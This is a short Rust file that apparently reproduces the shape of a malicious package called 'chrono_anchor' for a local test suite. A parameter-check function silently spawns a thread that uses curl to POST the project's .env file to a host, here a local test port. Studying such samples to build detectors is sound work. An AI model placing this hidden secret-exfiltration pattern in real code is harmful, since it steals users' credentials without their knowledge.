//! The shape of `chrono_anchor` (2026-03): parameter validation starts a thread that posts `.env` with curl, after a harmless GET and
//! a pause that breaks the connection in time.

use std::process::{Command, Stdio};
use std::sync::Mutex;
use std::thread::{self, JoinHandle};
use std::time::Duration;

static THREAD: Mutex<Option<JoinHandle<()>>> = Mutex::new(None);

pub fn check_params(start: u64, end: u64) -> bool {
    run_optional_syncs();
    start < end
}

pub fn settle() {
    if let Some(thread) = THREAD.lock().unwrap().take() {
        thread.join().unwrap();
    }
}

fn run_optional_syncs() {
    *THREAD.lock().unwrap() = Some(thread::spawn(|| {
        let host = format!("http://127.0.0.1:{}", std::env::var("ZOO_TCP").unwrap());
        curl(&["-s", "-m", "3", &host]);
        thread::sleep(Duration::from_secs(1));
        curl(&["-s", "-m", "3", "-X", "POST", "-F", "file=@.env", &format!("{host}/api")]);
    }));
}

fn curl(args: &[&str]) {
    let _ = Command::new("curl").args(args).stdout(Stdio::null()).stderr(Stdio::null()).status();
}
